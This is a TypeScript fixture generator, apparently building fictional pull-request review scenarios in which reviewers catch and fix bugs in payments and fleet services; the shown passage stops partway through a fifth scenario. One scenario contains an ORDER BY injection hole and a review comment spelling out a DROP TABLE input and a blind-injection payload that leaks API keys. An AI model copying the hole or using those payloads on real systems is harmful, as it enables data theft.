/**
 * Story scenarios about reviews: deep reviews that catch real defects (the
 * author fixes them, the threads go outdated and get resolved), a verified
 * approval, and rubber stamps of 1,000+ line changes.
 */
import { BOTS, P } from "./cast.js";
import { designTokens, firmwareClient, momentToDateFns, telemetryV2 } from "./big-diffs.js";
import { added, hunk, modified } from "./patches.js";
import type { Random } from "./prng.js";
import { COPILOT_CO_AUTHOR, type PrSpec } from "./spec.js";
import { coderabbitReview, coderabbitWalkthrough, copilotReview, nitReview, previewComment } from "./texts.js";

export function reviewStories(rng: Random): PrSpec[] {
  const out: PrSpec[] = [];

  // ------------------------------------------------------------ D1: maya finds a missing transaction (payments-core, private)
  {
    const svcBefore = [
      "   constructor(private readonly db: Database, private readonly ledger: Ledger) {}",
      " ",
      "+  async refundPartial(paymentId: string, amountCents: number, reason: string): Promise<Refund> {",
      "+    const payment = await this.db.payments.findById(paymentId);",
      "+    if (!payment) throw new NotFoundError(`payment ${paymentId}`);",
      "+    const refunded = await this.db.refunds.sumForPayment(paymentId);",
      "+    if (refunded + amountCents > payment.capturedCents) {",
      "+      throw new RefundExceedsCaptureError(paymentId, amountCents);",
      "+    }",
      "+",
      "+    const refund = await this.db.refunds.insert({",
      "+      paymentId,",
      "+      amountCents,",
      "+      reason,",
      '+      status: "pending",',
      "+    });",
      '+    await this.db.refunds.updateStatus(refund.id, "refunded");',
      "+    await this.ledger.post({",
      '+      debit: "refunds_payable",',
      '+      credit: "customer_balance",',
      "+      amountCents,",
      "+      reference: refund.id,",
      "+    });",
      '+    return { ...refund, status: "refunded" };',
      "+  }",
      "+",
      "   async refundFull(paymentId: string, reason: string): Promise<Refund> {",
    ];
    const svcAfter = [
      "   constructor(private readonly db: Database, private readonly ledger: Ledger) {}",
      " ",
      "+  /**",
      "+   * Refunds part of a captured payment. The payment row is locked for the whole",
      "+   * transaction so that two concurrent partial refunds cannot exceed the capture.",
      "+   */",
      "+  async refundPartial(paymentId: string, amountCents: number, reason: string): Promise<Refund> {",
      "+    return this.db.transaction(async (tx) => {",
      "+      const payment = await tx.payments.lockPayment(paymentId);",
      "+      if (!payment) throw new NotFoundError(`payment ${paymentId}`);",
      "+      const refunded = await tx.refunds.sumForPayment(paymentId);",
      "+      if (refunded + amountCents > payment.capturedCents) {",
      "+        throw new RefundExceedsCaptureError(paymentId, amountCents);",
      "+      }",
      "+",
      '+      const refund = await tx.refunds.insert({ paymentId, amountCents, reason, status: "refunded" });',
      "+      await this.ledger.post(tx, {",
      '+        debit: "refunds_payable",',
      '+        credit: "customer_balance",',
      "+        amountCents,",
      "+        reference: refund.id,",
      "+      });",
      "+      return refund;",
      "+    });",
      "+  }",
      "+",
      "   async refundFull(paymentId: string, reason: string): Promise<Refund> {",
    ];
    const testBefore = [
      'import { describe, expect, it } from "vitest";',
      'import { makeRefundService, seedPayment } from "../helpers/payments.js";',
      "",
      'describe("RefundService.refundPartial", () => {',
      '  it("refunds part of a captured payment", async () => {',
      "    const { service, db } = await makeRefundService();",
      "    const payment = await seedPayment(db, { capturedCents: 10_000 });",
      '    const refund = await service.refundPartial(payment.id, 2_500, "damaged item");',
      '    expect(refund.status).toBe("refunded");',
      "    expect(await db.refunds.sumForPayment(payment.id)).toBe(2_500);",
      "  });",
      "",
      '  it("rejects a refund larger than what is left", async () => {',
      "    const { service, db } = await makeRefundService();",
      "    const payment = await seedPayment(db, { capturedCents: 1_000 });",
      '    await service.refundPartial(payment.id, 800, "partial");',
      '    await expect(service.refundPartial(payment.id, 300, "too much")).rejects.toThrow(RefundExceedsCaptureError);',
      "  });",
      "});",
    ];
    const testAfter = [
      ...testBefore.slice(0, -1),
      "",
      '  it("never lets two concurrent partial refunds exceed the capture", async () => {',
      "    const { service, db } = await makeRefundService();",
      "    const payment = await seedPayment(db, { capturedCents: 1_000 });",
      "    const results = await Promise.allSettled([",
      '      service.refundPartial(payment.id, 600, "a"),',
      '      service.refundPartial(payment.id, 600, "b"),',
      "    ]);",
      '    expect(results.filter((r) => r.status === "fulfilled")).toHaveLength(1);',
      "    expect(await db.refunds.sumForPayment(payment.id)).toBe(600);",
      "  });",
      "",
      '  it("leaves no refund behind when the ledger post fails", async () => {',
      "    const { service, db, ledger } = await makeRefundService();",
      "    const payment = await seedPayment(db, { capturedCents: 1_000 });",
      '    ledger.failNext(new Error("ledger timeout"));',
      '    await expect(service.refundPartial(payment.id, 100, "x")).rejects.toThrow("ledger timeout");',
      "    expect(await db.refunds.sumForPayment(payment.id)).toBe(0);",
      "  });",
      "});",
    ];
    const errorsHunk = modified(
      "src/refunds/errors.ts",
      hunk(14, 14, "", [
        " export class RefundError extends Error {}",
        "+",
        "+export class RefundExceedsCaptureError extends RefundError {",
        "+  constructor(readonly paymentId: string, readonly amountCents: number) {",
        "+    super(`refund of ${amountCents} exceeds what is left to refund on ${paymentId}`);",
        "+  }",
        "+}",
      ]),
    );
    const original = [
      modified("src/refunds/refund-service.ts", hunk(41, 41, "export class RefundService {", svcBefore)),
      errorsHunk,
      added("test/refunds/refund-partial.test.ts", testBefore),
    ];
    const files = [
      modified("src/refunds/refund-service.ts", hunk(41, 41, "export class RefundService {", svcAfter)),
      errorsHunk,
      added("test/refunds/refund-partial.test.ts", testAfter),
    ];
    out.push({
      key: "d1",
      repo: "payments",
      author: P.priya,
      title: "Support partial refunds",
      body:
        "Merchants have been asking for partial refunds (damaged item, one line of a multi-robot order). Today support issues a full refund and re-charges, which confuses everyone's bank statement.\n\n" +
        "## What\n- `RefundService.refundPartial(paymentId, amountCents, reason)`\n- Rejects refunds that would exceed the captured amount\n- Posts the refund to the ledger (`refunds_payable` → `customer_balance`)\n\n" +
        "## Testing\n- Unit tests for the happy path and the over-refund case\n\nCloses ACME-PAY-212.",
      openedAt: "2026-07-08T09:40:00Z",
      headRef: "priya/partial-refunds",
      labels: ["enhancement", "area:refunds"],
      originalFiles: original,
      files,
      commits: [
        { atMin: -70, message: "Add RefundService.refundPartial" },
        { atMin: -20, message: "Test partial refunds" },
        { atMin: 335, message: "Do the partial refund in one transaction with the payment row locked\n\nThe ledger post can fail after the status flip, and two partial refunds\ncould both pass the remaining-amount check. Both are fixed by locking the\npayment row and doing everything in one transaction." },
      ],
      reviews: [
        copilotReview(rng, 3, "This PR adds partial refunds to the refund service, with validation against the captured amount and a ledger posting.", original),
        {
          by: P.maya,
          atMin: 190,
          state: "changes_requested",
          body: "The feature is the right shape, but the write path isn't safe yet — two comments inline, the first one is a blocker. Happy to pair on it this afternoon.",
          comments: [
            {
              path: "src/refunds/refund-service.ts",
              anchor: 'await this.db.refunds.updateStatus(refund.id, "refunded");',
              body:
                "These writes aren't in a transaction. If `ledger.post` fails (the ledger service times out a few times a week — see the 2026-06-28 incident), the refund is already marked `refunded` with no ledger entry, and reconciliation only flags it a day later.\n\n" +
                "There's also a race: two partial refunds for the same payment can both read `sumForPayment` before either inserts, both pass the `> payment.capturedCents` check, and together refund more than was captured.\n\n" +
                "Suggest doing the read, insert and ledger post in one `this.db.transaction(...)`, with the payment row locked (`tx.payments.lockPayment`, which is `SELECT … FOR UPDATE` — `refundFull` already does this). Then the status can go straight to `refunded` inside the transaction.",
              outcome: "fixed",
              replies: [
                { by: "author", afterMin: 40, body: "Oh — I missed that the ledger post can fail after the status flip. Moving everything into one transaction with `lockPayment`." },
                { by: "reviewer", afterMin: 52, body: "👍 and `ledger.post` takes the transaction as its first argument now (#398), so the ledger row rolls back with the rest." },
              ],
              resolve: { by: "reviewer", afterMin: 210 },
            },
            {
              path: "test/refunds/refund-partial.test.ts",
              anchor: "rejects a refund larger than what is left",
              body: "Could we add a test with two concurrent partial refunds that together exceed the capture? That's the case the lock protects, and it's the one that would regress silently. A second test where the ledger post throws would pin down the rollback.",
              outcome: "fixed",
              replies: [{ by: "author", afterMin: 150, body: "Added both — the concurrent one failed before the fix, passes now." }],
              resolve: { by: "reviewer", afterMin: 212 },
            },
          ],
        },
        { by: P.maya, atMin: 405, state: "approved", body: "Thanks Priya — this is solid now. The concurrency test is a nice touch." },
        { by: P.rafael, atMin: 415, state: "approved", body: null },
      ],
      comments: [
        { by: P.priya, atMin: 3600, body: "/unsung endorse @maya-okafor Maya's review caught the missing transaction and the double-refund race in partial refunds before it reached production." },
      ],
      close: { atMin: 430, merged: true, by: P.priya },
      requestedReviewers: [P.maya, P.rafael],
      tags: ["deep-review", "deep-review:maya-okafor"],
    });
  }

  // ------------------------------------------------------------ D2: maya finds a race in heartbeat caching (fleet-api)
  {
    const storeBefore = [
      'import type { Redis } from "ioredis";',
      "",
      "const KEY = (robotId: string) => `robot:${robotId}:heartbeat`;",
      "",
      "export interface Heartbeat {",
      "  robotId: string;",
      "  seenAt: number;",
      "  batteryPercent: number;",
      "  pose: { x: number; y: number; theta: number };",
      "}",
      "",
      "export class HeartbeatStore {",
      "  constructor(private readonly redis: Redis) {}",
      "",
      "  async record(hb: Heartbeat): Promise<void> {",
      "    const current = await this.redis.get(KEY(hb.robotId));",
      "    if (current && JSON.parse(current).seenAt > hb.seenAt) return;",
      '    await this.redis.set(KEY(hb.robotId), JSON.stringify(hb), "EX", 300);',
      "  }",
      "",
      "  async latest(robotId: string): Promise<Heartbeat | null> {",
      "    const raw = await this.redis.get(KEY(robotId));",
      "    return raw ? (JSON.parse(raw) as Heartbeat) : null;",
      "  }",
      "}",
    ];
    const storeAfter = [
      'import type { Redis } from "ioredis";',
      'import { OFFLINE_AFTER_SECONDS } from "./presence.js";',
      "",
      "const KEY = (robotId: string) => `robot:${robotId}:heartbeat`;",
      "",
      "/**",
      " * Compare-and-set in one round trip: robots that reconnect flush buffered",
      " * heartbeats on several sockets at once, so an older heartbeat must never",
      " * overwrite a newer one.",
      " */",
      "const RECORD_IF_NEWER = `",
      'local cur = redis.call("GET", KEYS[1])',
      "if cur and cjson.decode(cur).seenAt >= tonumber(ARGV[2]) then",
      "  return 0",
      "end",
      'redis.call("SET", KEYS[1], ARGV[1], "EX", ARGV[3])',
      "return 1",
      "`;",
      "",
      "export interface Heartbeat {",
      "  robotId: string;",
      "  seenAt: number;",
      "  batteryPercent: number;",
      "  pose: { x: number; y: number; theta: number };",
      "}",
      "",
      "export class HeartbeatStore {",
      "  constructor(private readonly redis: Redis) {}",
      "",
      "  async record(hb: Heartbeat): Promise<boolean> {",
      "    const ttl = String(OFFLINE_AFTER_SECONDS * 10);",
      "    const written = await this.redis.eval(RECORD_IF_NEWER, 1, KEY(hb.robotId), JSON.stringify(hb), String(hb.seenAt), ttl);",
      "    return written === 1;",
      "  }",
      "",
      "  async latest(robotId: string): Promise<Heartbeat | null> {",
      "    const raw = await this.redis.get(KEY(robotId));",
      "    return raw ? (JSON.parse(raw) as Heartbeat) : null;",
      "  }",
      "}",
    ];
    const handler = modified(
      "src/robots/heartbeat-handler.ts",
      hunk(18, 18, "export async function onHeartbeat(msg: HeartbeatMessage, deps: Deps) {", [
        "   const hb = toHeartbeat(msg);",
        "-  await deps.db.query(UPDATE_LAST_SEEN, [hb.robotId, new Date(hb.seenAt)]);",
        "+  await deps.heartbeats.record(hb);",
        "+  // Postgres only needs the coarse value for reports; write it at most once a minute.",
        "+  if (deps.throttle.shouldWrite(hb.robotId, 60_000)) {",
        "+    await deps.db.query(UPDATE_LAST_SEEN, [hb.robotId, new Date(hb.seenAt)]);",
        "+  }",
        "   deps.metrics.heartbeats.inc();",
      ]),
    );
    const testAfter = [
      'import { describe, expect, it } from "vitest";',
      'import { HeartbeatStore } from "../../src/robots/heartbeat-store.js";',
      'import { testRedis } from "../helpers/redis.js";',
      "",
      'describe("HeartbeatStore", () => {',
      '  it("keeps the newest heartbeat when two arrive out of order", async () => {',
      "    const store = new HeartbeatStore(await testRedis());",
      '    const newer = { robotId: "r-9", seenAt: 2_000, batteryPercent: 80, pose: { x: 1, y: 1, theta: 0 } };',
      "    const older = { ...newer, seenAt: 1_000, pose: { x: 0, y: 0, theta: 0 } };",
      "    await Promise.all([store.record(newer), store.record(older)]);",
      '    expect((await store.latest("r-9"))?.seenAt).toBe(2_000);',
      "  });",
      "});",
    ];
    const original = [added("src/robots/heartbeat-store.ts", storeBefore), handler];
    const files = [added("src/robots/heartbeat-store.ts", storeAfter), handler, added("test/robots/heartbeat-store.test.ts", testAfter)];
    out.push({
      key: "d2",
      repo: "fleet",
      author: P.oliver,
      title: "Cache robot heartbeats in Redis to cut Postgres writes",
      body:
        "Every robot sends a heartbeat every 2 s and each one is an `UPDATE robots SET last_seen_at` — ~1,400 writes/s at peak, and it's the top statement in pg_stat_statements.\n\n" +
        "This keeps the latest heartbeat in Redis (what the live map reads) and writes `last_seen_at` to Postgres at most once a minute per robot.\n\n" +
        "Expected: Postgres write IOPS −80% at peak.",
      openedAt: "2026-07-22T10:05:00Z",
      headRef: "oliver/heartbeat-redis",
      labels: ["enhancement", "area:telemetry"],
      originalFiles: original,
      files,
      commits: [
        { atMin: -45, message: "Keep the latest heartbeat in Redis" },
        { atMin: 280, message: "Make heartbeat compare-and-set atomic with a Lua script\n\nAlso ties the TTL to OFFLINE_AFTER_SECONDS and adds an out-of-order test." },
      ],
      reviews: [
        copilotReview(rng, 4, "This PR caches robot heartbeats in Redis and throttles the Postgres write of last_seen_at.", original),
        {
          by: P.maya,
          atMin: 95,
          state: "changes_requested",
          body: "Drive-by from payments — we hit exactly this pattern in the ledger cache last year. One blocker inline.",
          comments: [
            {
              path: "src/robots/heartbeat-store.ts",
              anchor: "const current = await this.redis.get(KEY(hb.robotId));",
              body:
                "This is a read-modify-write race. Robots reconnecting after a Wi-Fi drop flush their buffered heartbeats on two sockets at once (that's what we saw in the June map incident), so two `record` calls for the same robot can both `GET` the old value, and whichever `SET` lands last wins — including an *older* heartbeat. The map then shows the robot where it was 30 s ago.\n\n" +
                "The compare and the set need to be atomic: either a small Lua script (`if not cur or cjson.decode(cur).seenAt < ARGV[2] then SET`) or `WATCH`/`MULTI`. The Lua version is one round trip, which matters at 1,400/s.",
              outcome: "fixed",
              replies: [
                { by: "author", afterMin: 30, body: "Oh, nasty — and it explains the 'robot jumps back' reports from Leipzig. Going with the Lua script." },
                { by: "author", afterMin: 190, body: "Done, plus a test that fires two records out of order. It failed on the old code about 1 run in 3." },
              ],
              resolve: { by: "author", afterMin: 195 },
            },
            {
              path: "src/robots/heartbeat-store.ts",
              anchor: '"EX", 300',
              body: "Should the TTL be derived from `OFFLINE_AFTER_SECONDS` instead of a literal 300? If someone tunes the offline threshold, the cache would silently disagree with it.",
              outcome: "fixed",
              replies: [{ by: "author", afterMin: 191, body: "Yep, derived from it now." }],
              resolve: { by: "author", afterMin: 196 },
            },
          ],
        },
        { by: P.maya, atMin: 300, state: "approved", body: "Nice, thanks for the test." },
        { by: P.dev, atMin: 310, state: "approved", body: "LGTM — good catch Maya." },
      ],
      comments: [],
      close: { atMin: 330, merged: true, by: P.oliver },
      requestedReviewers: [P.dev, P.maya],
      tags: ["deep-review", "deep-review:maya-okafor"],
    });
  }

  // ------------------------------------------------------------ D3: devraj finds SQL injection in ORDER BY (fleet-api)
  {
    const repoBefore = [
      "   constructor(private readonly pool: Pool) {}",
      " ",
      "-  async list(fleetId: string, limit: number): Promise<Mission[]> {",
      "+  async list(fleetId: string, limit: number, sort = \"created_at\", direction = \"desc\"): Promise<Mission[]> {",
      "     const { rows } = await this.pool.query(",
      "-      `SELECT * FROM missions WHERE fleet_id = $1 ORDER BY created_at DESC LIMIT $2`,",
      "+      `SELECT * FROM missions WHERE fleet_id = $1 ORDER BY ${sort} ${direction} LIMIT $2`,",
      "       [fleetId, limit],",
      "     );",
      "     return rows.map(toMission);",
    ];
    const repoAfter = [
      "   constructor(private readonly pool: Pool) {}",
      " ",
      "-  async list(fleetId: string, limit: number): Promise<Mission[]> {",
      "+  /** `sort` and `direction` are allowlisted column names: identifiers cannot be bound as parameters. */",
      "+  async list(fleetId: string, limit: number, sort: MissionSort = \"created\", direction: SortDirection = \"desc\"): Promise<Mission[]> {",
      "+    const column = SORT_COLUMNS[sort];",
      "+    const dir = direction === \"asc\" ? \"ASC\" : \"DESC\";",
      "     const { rows } = await this.pool.query(",
      "-      `SELECT * FROM missions WHERE fleet_id = $1 ORDER BY created_at DESC LIMIT $2`,",
      "+      `SELECT * FROM missions WHERE fleet_id = $1 ORDER BY ${column} ${dir}, id LIMIT $2`,",
      "       [fleetId, limit],",
      "     );",
      "     return rows.map(toMission);",
    ];
    const sortFile = added("src/missions/sort.ts", [
      "export const SORT_COLUMNS = {",
      '  created: "created_at",',
      '  status: "status",',
      '  robot: "robot_id",',
      '  eta: "estimated_completion_at",',
      "} as const;",
      "export type MissionSort = keyof typeof SORT_COLUMNS;",
      'export type SortDirection = "asc" | "desc";',
    ]);
    const routesBefore = modified(
      "src/missions/routes.ts",
      hunk(27, 27, "router.get(\"/v1/missions\", async (req, res) => {", [
        "   const fleetId = req.auth.fleetId;",
        "   const limit = Number(req.query.limit ?? 50);",
        "-  const missions = await repo.list(fleetId, limit);",
        "+  const sort = String(req.query.sort ?? \"created_at\");",
        "+  const direction = String(req.query.direction ?? \"desc\");",
        "+  const missions = await repo.list(fleetId, limit, sort, direction);",
        "   res.json({ items: missions.map(serializeMission) });",
      ]),
    );
    const routesAfter = modified(
      "src/missions/routes.ts",
      hunk(27, 27, "router.get(\"/v1/missions\", async (req, res) => {", [
        "   const fleetId = req.auth.fleetId;",
        "-  const limit = Number(req.query.limit ?? 50);",
        "-  const missions = await repo.list(fleetId, limit);",
        "+  const q = ListMissionsQuery.parse(req.query);",
        "+  const missions = await repo.list(fleetId, q.limit, q.sort, q.direction);",
        "   res.json({ items: missions.map(serializeMission) });",
      ]),
    );
    const schema = added("src/missions/list-query.ts", [
      'import { z } from "zod";',
      'import { SORT_COLUMNS, type MissionSort } from "./sort.js";',
      "",
      "export const ListMissionsQuery = z.object({",
      "  limit: z.coerce.number().int().min(1).max(200).default(50),",
      "  sort: z.enum(Object.keys(SORT_COLUMNS) as [MissionSort, ...MissionSort[]]).default(\"created\"),",
      '  direction: z.enum(["asc", "desc"]).default("desc"),',
      "});",
    ]);
    const test = added("test/missions/list-sort.test.ts", [
      'import { describe, expect, it } from "vitest";',
      'import { request } from "../helpers/http.js";',
      "",
      'describe("GET /v1/missions sorting", () => {',
      '  it("sorts by an allowlisted column", async () => {',
      '    const res = await request.get("/v1/missions?sort=status&direction=asc");',
      "    expect(res.status).toBe(200);",
      "  });",
      "",
      '  it("rejects anything that is not an allowlisted column", async () => {',
      '    const res = await request.get("/v1/missions?sort=(SELECT%201)");',
      "    expect(res.status).toBe(400);",
      "  });",
      "});",
    ]);
    const original = [modified("src/missions/mission-repository.ts", hunk(58, 58, "export class MissionRepository {", repoBefore)), routesBefore];
    const files = [modified("src/missions/mission-repository.ts", hunk(58, 58, "export class MissionRepository {", repoAfter)), sortFile, schema, routesAfter, test];
    out.push({
      key: "d3",
      repo: "fleet",
      author: P.hannah,
      title: "Sortable columns for GET /v1/missions",
      body: "The console's mission table wants server-side sorting (client-side sorting only sorts the current page, which confused operators).\n\nAdds `?sort=` and `?direction=` to `GET /v1/missions`.",
      openedAt: "2026-07-15T13:20:00Z",
      headRef: "hannah/mission-sorting",
      labels: ["enhancement"],
      originalFiles: original,
      files,
      commits: [
        { atMin: -30, message: "Add sort and direction to mission listing" },
        { atMin: 1160, message: "Allowlist sortable columns and validate the query with zod" },
      ],
      reviews: [
        {
          by: P.dev,
          atMin: 70,
          state: "changes_requested",
          body: "Blocking on the ORDER BY interpolation — details inline. The feature itself is great, the console folks will be happy.",
          comments: [
            {
              path: "src/missions/mission-repository.ts",
              anchor: "ORDER BY ${sort} ${direction}",
              body:
                "`sort` and `direction` come straight from the query string (routes.ts), so this is SQL injection on a public endpoint. `?sort=created_at;DROP TABLE missions` is stopped by the driver's one-statement rule, but `?sort=(CASE WHEN (SELECT substr(api_key,1,1) FROM operators LIMIT 1)='a' THEN created_at ELSE id END)` is a blind-injection oracle that leaks operator API keys one character at a time.\n\n" +
                "Identifiers can't be bound as `$n` parameters, so map them through an allowlist — e.g. `const SORT_COLUMNS = { created: 'created_at', status: 'status', robot: 'robot_id' } as const` — and reject anything else with a 400 at the edge (a zod enum in the route). Same for `direction`.\n\nOWASP's query-parameterization cheat sheet covers the ORDER BY case: https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
              outcome: "fixed",
              replies: [
                { by: "author", afterMin: 45, body: "Yikes — I didn't think of ORDER BY as an injection point since it's not a value. Allowlist + zod enum coming up." },
                { by: "reviewer", afterMin: 60, body: "Easy one to miss! Also add `id` as a tie-breaker so pages are stable when many missions share a status." },
              ],
              resolve: { by: "reviewer", afterMin: 1110 },
            },
          ],
        },
        ...nitReview(rng, 95, original),
        { by: P.dev, atMin: 1175, state: "approved", body: "👍 Thanks for the negative test too." },
      ],
      comments: [
        { by: P.tomas, atMin: 2000, body: "/unsung dispute {{url:d3}} My review here was more than style nits: I also went through the error messages for the 400 case." },
      ],
      close: { atMin: 1195, merged: true, by: P.hannah },
      requestedReviewers: [P.dev],
      tags: ["deep-review", "deep-review:devraj-patel", "padded-review"],
    });
  }

  // ------------------------------------------------------------ D4: rafael finds an off-by-one in cursor pagination (fleet-api)
  {
    const listBefore = [
      'import { sql, type Db } from "../db.js";',
      'import { decodeCursor, encodeCursor, type Page } from "../lib/cursor.js";',
      'import { toRobot, type Robot, type RobotRow } from "./robot.js";',
      "",
      "export async function listRobots(db: Db, fleetId: string, cursor: string | null, limit: number): Promise<Page<Robot>> {",
      '  const after = cursor ? decodeCursor(cursor) : "";',
      "  const rows = await db.many<RobotRow>(",
      "    sql`SELECT * FROM robots WHERE fleet_id = ${fleetId} AND id >= ${after} ORDER BY id LIMIT ${limit}`,",
      "  );",
      "  const last = rows[rows.length - 1];",
      "  return {",
      "    items: rows.map(toRobot),",
      "    nextCursor: rows.length === limit && last ? encodeCursor(last.id) : null,",
      "  };",
      "}",
    ];
    const listAfter = [
      'import { sql, type Db } from "../db.js";',
      'import { decodeCursor, paginate, type Page } from "../lib/cursor.js";',
      'import { toRobot, type Robot, type RobotRow } from "./robot.js";',
      "",
      "/** Keyset pagination by id: fetch one extra row to know whether another page exists. */",
      "export async function listRobots(db: Db, fleetId: string, cursor: string | null, limit: number): Promise<Page<Robot>> {",
      '  const after = cursor ? decodeCursor(cursor) : "";',
      "  const rows = await db.many<RobotRow>(",
      "    sql`SELECT * FROM robots WHERE fleet_id = ${fleetId} AND id > ${after} ORDER BY id LIMIT ${limit + 1}`,",
      "  );",
      "  return paginate(rows, limit, (r) => r.id, toRobot);",
      "}",
    ];
    const route = modified(
      "src/robots/routes.ts",
      hunk(12, 12, 'router.get("/v1/robots", async (req, res) => {', [
        "   const { fleetId } = req.auth;",
        "-  const robots = await listAllRobots(db, fleetId);",
        "-  res.json({ items: robots.map(serializeRobot) });",
        "+  const { cursor, limit } = ListRobotsQuery.parse(req.query);",
        "+  const page = await listRobots(db, fleetId, cursor ?? null, limit);",
        "+  res.json({ items: page.items.map(serializeRobot), next_cursor: page.nextCursor });",
      ]),
    );
    const test = added("test/robots/list-robots.test.ts", [
      'import { describe, expect, it } from "vitest";',
      'import { listRobots } from "../../src/robots/list-robots.js";',
      'import { seedRobots, testDb } from "../helpers/db.js";',
      "",
      'describe("listRobots", () => {',
      '  it("walks every robot exactly once across pages", async () => {',
      "    const db = await testDb();",
      '    const ids = await seedRobots(db, "fleet-1", 20);',
      "    const seen: string[] = [];",
      "    let cursor: string | null = null;",
      "    do {",
      '      const page = await listRobots(db, "fleet-1", cursor, 10);',
      "      seen.push(...page.items.map((r) => r.id));",
      "      cursor = page.nextCursor;",
      "    } while (cursor);",
      "    expect(seen).toEqual(ids);",
      "  });",
      "});",
    ]);
    const original = [added("src/robots/list-robots.ts", listBefore), route];
    const files = [added("src/robots/list-robots.ts", listAfter), route, test];
    out.push({
      key: "d4",
      repo: "fleet",
      author: P.oliver,
      title: "Cursor pagination for GET /v1/robots",
      body: "The biggest customer now has 1,900 robots in one fleet and `GET /v1/robots` returns all of them (4 MB, 2.3 s).\n\nAdds keyset pagination: `?cursor=&limit=` (default 100), `next_cursor` in the response. The console already handles `next_cursor` for missions.",
      openedAt: "2026-08-26T10:30:00Z",
      headRef: "oliver/robots-cursor",
      labels: ["enhancement"],
      originalFiles: original,
      files,
      commits: [
        { atMin: -60, message: "Paginate GET /v1/robots with a cursor" },
        { atMin: 240, message: "Fix off-by-one in robot pagination and use paginate()" },
      ],
      reviews: [
        copilotReview(rng, 3, "This PR adds cursor-based pagination to the robots listing endpoint.", original),
        {
          by: P.rafael,
          atMin: 120,
          state: "changes_requested",
          body: "Two pagination bugs, both easy to fix. We had the same ones in payouts last year, so I recognise them.",
          comments: [
            {
              path: "src/robots/list-robots.ts",
              anchor: "AND id >= ${after}",
              body: "Off-by-one: with `>=`, the robot the cursor points at (the last item of the previous page) comes back as the first item of the next page, so every page after the first repeats one robot. A client that de-duplicates won't notice, but the console's infinite scroll will show duplicates. Should be `id > ${after}`.",
              outcome: "fixed",
              replies: [{ by: "author", afterMin: 25, body: "Argh, yes. Fixing." }],
              resolve: { by: "reviewer", afterMin: 150 },
            },
            {
              path: "src/robots/list-robots.ts",
              anchor: "nextCursor: rows.length === limit",
              body: "Related: `rows.length === limit` can't tell 'exactly `limit` rows left' from 'more rows exist', so a fleet whose size is a multiple of `limit` gets a `next_cursor` that leads to an empty page. Fetch `limit + 1` and trim — then `nextCursor` is null exactly when there's nothing more. `paginate()` in `src/lib/cursor.ts` does this already (missions uses it).",
              outcome: "fixed",
              replies: [{ by: "author", afterMin: 26, body: "Didn't know about `paginate()`. Switching to it, and adding a test that walks 2×limit robots." }],
              resolve: { by: "reviewer", afterMin: 151 },
            },
          ],
        },
        { by: P.rafael, atMin: 275, state: "approved", body: "Thanks! The walk-every-robot test is exactly the right one." },
        { by: P.tomas, atMin: 280, state: "approved", body: "LGTM! 🚀" },
      ],
      comments: [],
      close: { atMin: 300, merged: true, by: P.oliver },
      requestedReviewers: [P.rafael, P.lena],
      tags: ["deep-review", "deep-review:rafael-moreno"],
    });
  }

  // ------------------------------------------------------------ D5: rafael finds a check-then-act race in idempotency (payments-core)
  {
    const idemBefore = [
      'import { sql, type Db } from "../db.js";',
      "",
      "interface IdempotencyRow {",
      "  response: unknown;",
      "}",
      "",
      "export async function withIdempotency<T>(db: Db, key: string, merchantId: string, run: () => Promise<T>): Promise<T> {",
      "  const existing = await db.maybeOne<IdempotencyRow>(",
      "    sql`SELECT response FROM idempotency_keys WHERE key = ${key} AND merchant_id = ${merchantId}`,",
      "  );",
      "  if (existing) return existing.response as T;",
      "  const response = await run();",
      "  await db.query(",
      "    sql`INSERT INTO idempotency_keys (key, merchant_id, response) VALUES (${key}, ${merchantId}, ${response})`,",
      "  );",
      "  return response;",
      "}",
    ];
    const idemAfter = [
      'import { sql, type Db } from "../db.js";',
      'import { ConflictError } from "../errors.js";',
      "",
      "interface IdempotencyRow {",
      '  status: "in_progress" | "done";',
      "  response: unknown;",
      "}",
      "",
      "/**",
      " * Claims the key before running the side effect, so two concurrent retries",
      " * of the same request can never both pay out.",
      " */",
      "export async function withIdempotency<T>(db: Db, key: string, merchantId: string, run: () => Promise<T>): Promise<T> {",
      "  const claimed = await db.maybeOne<{ key: string }>(",
      "    sql`INSERT INTO idempotency_keys (key, merchant_id, status) VALUES (${key}, ${merchantId}, 'in_progress')",
      "        ON CONFLICT (merchant_id, key) DO NOTHING RETURNING key`,",
      "  );",
      "  if (!claimed) {",
      "    const existing = await db.one<IdempotencyRow>(",
      "      sql`SELECT status, response FROM idempotency_keys WHERE key = ${key} AND merchant_id = ${merchantId}`,",
      "    );",
      '    if (existing.status === "done") return existing.response as T;',
      '    throw new ConflictError("a request with this idempotency key is still in progress");',
      "  }",
      "  try {",
      "    const response = await run();",
      "    await db.query(sql`UPDATE idempotency_keys SET status = 'done', response = ${response} WHERE key = ${key} AND merchant_id = ${merchantId}`);",
      "    return response;",
      "  } catch (err) {",
      "    await db.query(sql`DELETE FROM idempotency_keys WHERE key = ${key} AND merchant_id = ${merchantId}`);",
      "    throw err;",
      "  }",
      "}",
    ];
    const migration = added("migrations/20260909_idempotency_keys.sql", [
      "CREATE TABLE IF NOT EXISTS idempotency_keys (",
      "  merchant_id text NOT NULL,",
      "  key text NOT NULL,",
      "  status text NOT NULL DEFAULT 'in_progress',",
      "  response jsonb,",
      "  created_at timestamptz NOT NULL DEFAULT now()",
      ");",
      "CREATE UNIQUE INDEX IF NOT EXISTS idempotency_keys_merchant_key ON idempotency_keys (merchant_id, key);",
    ]);
    const migrationBefore = added("migrations/20260909_idempotency_keys.sql", [
      "CREATE TABLE IF NOT EXISTS idempotency_keys (",
      "  merchant_id text NOT NULL,",
      "  key text NOT NULL,",
      "  response jsonb,",
      "  created_at timestamptz NOT NULL DEFAULT now()",
      ");",
    ]);
    const route = modified(
      "src/payouts/routes.ts",
      hunk(40, 40, 'router.post("/v1/payouts", async (req, res) => {', [
        "   const body = CreatePayout.parse(req.body);",
        "-  const payout = await payouts.create(req.merchant.id, body);",
        '+  const key = req.header("Idempotency-Key");',
        "+  const create = () => payouts.create(req.merchant.id, body);",
        "+  const payout = key ? await withIdempotency(db, key, req.merchant.id, create) : await create();",
        "   res.status(201).json(serializePayout(payout));",
      ]),
    );
    const test = added("test/payouts/idempotency.test.ts", [
      'import { describe, expect, it } from "vitest";',
      'import { postPayout, testApp } from "../helpers/app.js";',
      "",
      'describe("POST /v1/payouts with Idempotency-Key", () => {',
      '  it("pays out once when the same key is sent twice in parallel", async () => {',
      "    const app = await testApp();",
      '    const [a, b] = await Promise.all([postPayout(app, "k-1"), postPayout(app, "k-1")]);',
